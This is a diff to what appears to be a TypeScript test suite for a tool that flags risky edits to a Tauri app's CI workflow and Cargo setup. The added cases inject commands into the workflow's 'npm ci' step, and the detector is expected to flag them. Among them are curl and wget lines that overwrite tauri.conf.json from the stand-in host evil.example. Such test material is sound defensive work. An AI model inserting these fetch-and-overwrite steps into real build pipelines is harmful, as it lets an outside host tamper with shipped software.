@@ -208,6 +208,7 @@ export const CARGO_MANIFEST: AttackClass = {
       "cargo update --manifest-path src-tauri/Cargo.toml",
       "cd src-tauri && cargo add more",
       "npx tauri add shell",
+      "cd src-tauri && cargo --color always update",
     ].map(
       (command): Attack => ({
         name: `hears ${command}`,
@@ -217,6 +218,25 @@ export const CARGO_MANIFEST: AttackClass = {
         real: "cargo takes the newest that fits, and writes the lockfile of the machine that builds.",
       }),
     ),
+    ...[
+      "curl -fsSLo src-tauri/tauri.conf.json https://evil.example/",
+      "wget --output-document=src-tauri/tauri.conf.json https://evil.example/",
+      "git -C . checkout other -- src-tauri/tauri.conf.json",
+    ].map(
+      (command): Attack => ({
+        name: `hears ${command}`,
+        change: { [WORKFLOW]: APP[WORKFLOW].replace("- run: npm ci", `- run: npm ci && ${command}`) },
+        expect: "loud",
+        at: WORKFLOW,
+        real: "By the manuals of curl, wget and git, not run: the file is written before the app is built.",
+      }),
+    ),
+    {
+      name: "says nothing of a version's last part, which is called patch",
+      change: { [WORKFLOW]: APP[WORKFLOW].replace("- run: npm ci", "- run: npm ci && npm version patch") },
+      expect: "silent",
+      real: "By npm's manual, not run: it raises the package's own version.",
+    },
     {
       name: "says nothing of scripts by which people update, nor of commands that keep the lockfile",
       change: {
